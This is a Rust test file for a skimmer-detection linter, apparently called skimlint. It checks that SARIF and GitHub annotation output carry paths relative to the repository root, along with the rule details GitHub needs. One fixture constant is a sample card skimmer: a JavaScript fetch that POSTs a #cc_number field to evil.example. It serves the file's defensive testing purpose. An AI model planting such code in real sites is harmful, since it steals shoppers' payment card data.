//! What GitHub reads: SARIF for code scanning and `github` workflow annotations. Paths must be
//! relative to the repository root (GitHub resolves them there), whatever folder was scanned and
//! however it was named; the SARIF details GitHub needs to show a result fully.

mod common;
use common::{sarif_schema, skimlint, write};

use std::io::Write;
use std::path::{Path, PathBuf};

const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in members {
        w.start_file(*name, opts).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Runs skimlint in `dir`; returns (exit code, stdout, stderr).
fn run(dir: &Path, args: &[&str]) -> (i32, String, String) {
    let out = skimlint()
        .current_dir(dir)
        .args(args)
        .arg("--no-config")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn sarif(dir: &Path, args: &[&str]) -> serde_json::Value {
    let mut all = args.to_vec();
    all.extend(["--format", "sarif"]);
    let (code, out, err) = run(dir, &all);
    assert_eq!(code, 1, "{err}");
    serde_json::from_str(&out).unwrap()
}

/// The distinct result URIs of a SARIF log, and its `%SRCROOT%`.
fn uris(doc: &serde_json::Value) -> (Vec<String>, String) {
    let run = &doc["runs"][0];
    let mut out: Vec<String> = run["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let a = &r["locations"][0]["physicalLocation"]["artifactLocation"];
            assert_eq!(a["uriBaseId"], "%SRCROOT%");
            a["uri"].as_str().unwrap().to_string()
        })
        .collect();
    out.dedup();
    let base = run["originalUriBaseIds"]["%SRCROOT%"]["uri"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    (out, base)
}

/// The `file=` values of `github` annotations.
fn annotated_files(dir: &Path, args: &[&str]) -> Vec<String> {
    let mut all = args.to_vec();
    all.extend(["--format", "github"]);
    let (_, out, err) = run(dir, &all);
    let mut files: Vec<String> = out
        .lines()
        .filter_map(|l| l.split("file=").nth(1))
        .map(|rest| rest.split(',').next().unwrap().to_string())
        .collect();
    files.dedup();
    assert!(!files.is_empty(), "{out}{err}");
    files
}

fn canonical(p: &Path) -> PathBuf {
    std::fs::canonicalize(p).unwrap()
}

fn file_uri(p: &Path) -> String {
    format!("file://{}/", canonical(p).display())
}

#[test]
fn sarif_and_annotation_paths_are_relative_to_the_repository_root() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    // A git work tree is recognised by its `.git` (git itself is not run).
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    write(&repo, "fixtures/shop/app/a.js", SKIMMER_JS.as_bytes());
    write(
        &repo,
        "fixtures/upload.zip",
        zip_of(&[("theme/b.js", SKIMMER_JS.as_bytes())]),
    );
    write(dir.path(), "outside/c.js", SKIMMER_JS.as_bytes());
    let shop_abs = repo.join("fixtures/shop");
    let shop_abs = shop_abs.to_str().unwrap();
    let expected = vec!["fixtures/shop/app/a.js".to_string()];

    // Absolute path, as `$GITHUB_WORKSPACE/fixtures/shop` in CI: not `app/a.js`.
    let (u, base) = uris(&sarif(&repo, &["check", shop_abs]));
    assert_eq!(u, expected);
    assert_eq!(base, file_uri(&repo));
    assert_eq!(annotated_files(&repo, &["check", shop_abs]), expected);
    // The same from anywhere: the root is the work tree around the scanned path.
    let (u, base) = uris(&sarif(dir.path(), &["check", shop_abs]));
    assert_eq!((u, base), (expected.clone(), file_uri(&repo)));
    // Relative paths, from a subfolder, with `../`.
    let fixtures = repo.join("fixtures");
    assert_eq!(uris(&sarif(&fixtures, &["check", "shop"])).0, expected);
    assert_eq!(uris(&sarif(&fixtures, &["check", "./shop/"])).0, expected);
    let app = repo.join("fixtures/shop/app");
    assert_eq!(uris(&sarif(&app, &["check", "."])).0, expected);
    assert_eq!(uris(&sarif(&app, &["check", "../../shop"])).0, expected);
    assert_eq!(annotated_files(&app, &["check", "../app/../app"]), expected);
    // A single file, relative and absolute.
    assert_eq!(uris(&sarif(&app, &["check", "a.js"])).0, expected);
    let file_abs = app.join("a.js");
    assert_eq!(
        uris(&sarif(dir.path(), &["check", file_abs.to_str().unwrap()])).0,
        expected
    );
    // Archive members keep their `!/` part after the archive's repository path.
    let zip = repo.join("fixtures/upload.zip");
    assert_eq!(
        uris(&sarif(&app, &["check", zip.to_str().unwrap()])).0,
        vec!["fixtures/upload.zip!/theme/b.js".to_string()]
    );
    // Several roots at once.
    assert_eq!(
        uris(&sarif(&fixtures, &["check", "upload.zip", shop_abs])).0,
        vec![
            "fixtures/shop/app/a.js".to_string(),
            "fixtures/upload.zip!/theme/b.js".to_string()
        ]
    );

    // --root overrides the work tree.
    let (u, base) = uris(&sarif(&repo, &["check", shop_abs, "--root", "fixtures"]));
    assert_eq!(u, vec!["shop/app/a.js".to_string()]);
    assert_eq!(base, file_uri(&fixtures));
    let (code, _, err) = run(&repo, &["check", shop_abs, "--root", "nope"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--root"), "{err}");

    // No work tree around the path: relative to the current folder, `../` when outside it.
    let outside = dir.path().join("outside");
    assert_eq!(
        uris(&sarif(dir.path(), &["check", outside.to_str().unwrap()])).0,
        vec!["outside/c.js".to_string()]
    );
    assert_eq!(
        uris(&sarif(&repo, &["check", "../outside"])).0,
        vec!["../outside/c.js".to_string()]
    );

    // The other formats keep paths as scanned.
    let (_, concise, _) = run(&app, &["check", ".", "--format", "concise"]);
    assert!(concise.starts_with("a.js:2:"), "{concise}");
}

fn assert_valid(doc: &serde_json::Value) {
    let schema = sarif_schema().expect("serde-sarif's schema.json in the cargo registry");
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(doc)
        .map(|e| format!("{e} at {}", e.instance_path))
        .collect();
    assert!(errors.is_empty(), "SARIF invalid: {errors:?}");
}

#[test]
fn sarif_has_the_details_github_shows() {
    let fixtures = common::root().join("fixtures");
    let doc = sarif(
        &fixtures,
        &["check", "magento2-infected", "woocommerce-infected"],
    );
    assert_valid(&doc);
    let run = &doc["runs"][0];
    let results = run["results"].as_array().unwrap();

    // Every code-flow step has a physical location, also the steps inside decoded payloads:
    // the literal they were decoded from.
    let mut layer_steps = 0;
    for r in results {
        for flow in r["codeFlows"].as_array().into_iter().flatten() {
            for step in flow["threadFlows"][0]["locations"].as_array().unwrap() {
                let loc = &step["location"];
                let phys = &loc["physicalLocation"];
                assert!(
                    phys["artifactLocation"]["uri"].is_string()
                        && phys["region"]["startLine"].as_i64().unwrap() >= 1,
                    "step without a physical location: {step}"
                );
                if step["nestingLevel"].as_i64().unwrap_or(0) > 0 {
                    layer_steps += 1;
                    assert_eq!(
                        phys, &r["locations"][0]["physicalLocation"],
                        "a decoded layer points at its literal"
                    );
                    assert!(loc["message"]["text"]
                        .as_str()
                        .unwrap()
                        .starts_with("layer "));
                }
            }
        }
    }
    assert!(layer_steps > 0, "the fixture has decoded payloads");

    // Related locations have ids and the message links each of them: `[text](id)`.
    let mut linked = 0;
    for r in results {
        let Some(related) = r["relatedLocations"].as_array() else {
            continue;
        };
        let text = r["message"]["text"].as_str().unwrap();
        for l in related {
            let id = l["id"].as_i64().expect("related location id");
            assert!(
                text.contains(&format!("]({id})")),
                "{id} not linked: {text}"
            );
            linked += 1;
        }
    }
    assert!(
        linked > 0,
        "the fixture has findings with related locations"
    );

    // Rules: fullDescription is the help's first paragraph, helpUri the rule file.
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let mut longer = 0;
    for rule in rules {
        let help = rule["help"]["markdown"].as_str().unwrap();
        let first: Vec<&str> = help
            .trim()
            .lines()
            .take_while(|l| !l.trim().is_empty())
            .map(str::trim)
            .collect();
        let full = rule["fullDescription"]["text"].as_str().unwrap();
        assert_eq!(full, first.join(" "), "{}", rule["id"]);
        if full != rule["shortDescription"]["text"] {
            longer += 1;
        }
        let uri = rule["helpUri"].as_str().expect("helpUri");
        let file = uri
            .strip_prefix("https://github.com/skimlint/skimlint/blob/main/")
            .expect(uri);
        let text = std::fs::read_to_string(common::root().join(file)).expect(file);
        assert!(
            text.contains(&format!("id = \"{}\"", rule["id"].as_str().unwrap())),
            "{uri}"
        );
    }
    assert!(
        longer * 2 > rules.len(),
        "fullDescription repeats the summary"
    );

    // automationDetails.id: the category, by default with the partition.
    assert_eq!(run["automationDetails"]["id"], "skimlint/");
    let part = sarif(
        &fixtures,
        &["check", "magento2-infected", "--partition", "1/1"],
    );
    assert_eq!(
        part["runs"][0]["automationDetails"]["id"],
        "skimlint/part-1-of-1/"
    );
    let named = sarif(
        &fixtures,
        &["check", "magento2-infected", "--category", "storefront/"],
    );
    assert_eq!(named["runs"][0]["automationDetails"]["id"], "storefront/");
}

#[test]
fn custom_rules_cannot_declare_security_severity_zero() {
    let dir = tempfile::tempdir().unwrap();
    let rule = |severity: &str| {
        format!(
            "id = \"js/alert-call\"\nseverity = \"warning\"\nsecurity-severity = {severity}\n\
             languages = [\"javascript\"]\nsummary = \"alert\"\nmessage = \"alert called\"\n\
             help = \"First paragraph.\\n\\nMore.\"\n\
             query = '(call_expression function: (identifier) @f (#eq? @f \"alert\"))'\n"
        )
    };
    write(dir.path(), "rules/alert.toml", rule("0.0").as_bytes());
    write(dir.path(), "src/a.js", b"alert(1);\n");
    let (code, _, err) = run(dir.path(), &["check", "src", "--rules", "rules"]);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("alert.toml:3:") && err.contains("above 0.0"),
        "{err}"
    );
    // A positive score is accepted; the custom rule has no helpUri (it is not in the repository)
    // and its fullDescription is its first help paragraph.
    write(dir.path(), "rules/alert.toml", rule("2.5").as_bytes());
    let doc = sarif(dir.path(), &["check", "src", "--rules", "rules"]);
    assert_valid(&doc);
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    let custom = rules.iter().find(|r| r["id"] == "js/alert-call").unwrap();
    assert!(custom.get("helpUri").is_none(), "{custom}");
    assert_eq!(custom["fullDescription"]["text"], "First paragraph.");
    assert_eq!(custom["properties"]["security-severity"], "2.5");
}

#[test]
fn github_annotations_are_capped_per_level_and_the_rest_listed() {
    let dir = tempfile::tempdir().unwrap();
    for i in 0..12 {
        write(
            dir.path(),
            &format!("web/s{i:02}.js"),
            SKIMMER_JS.as_bytes(),
        );
    }
    let (code, out, _) = run(dir.path(), &["check", "web", "--format", "github"]);
    assert_eq!(code, 1);
    let errors = out.lines().filter(|l| l.starts_with("::error ")).count();
    assert_eq!(errors, 10, "{out}");
    let listed: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("skimlint: web/"))
        .collect();
    assert!(listed.len() >= 2, "{out}");
    assert!(
        out.contains(&format!(
            "GitHub keeps at most 10 annotations per level from a step (50 per job); not \
             annotated: {} errors",
            listed.len()
        )),
        "{out}"
    );
    // No line of the plain list can be read as a workflow command.
    assert!(out
        .lines()
        .all(|l| !l.starts_with("::") || l.starts_with("::error ")));

    // --annotate prints annotations next to a report written to a file, not into stdout's report.
    let (code, _, err) = run(dir.path(), &["check", "web", "--annotate"]);
    assert_eq!(code, 2);
    assert!(err.contains("--output"), "{err}");
    let (code, out, _) = run(
        dir.path(),
        &[
            "check",
            "web",
            "--annotate",
            "--format",
            "json",
            "-o",
            "report.json",
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(
        out.lines().filter(|l| l.starts_with("::error ")).count(),
        10
    );
}
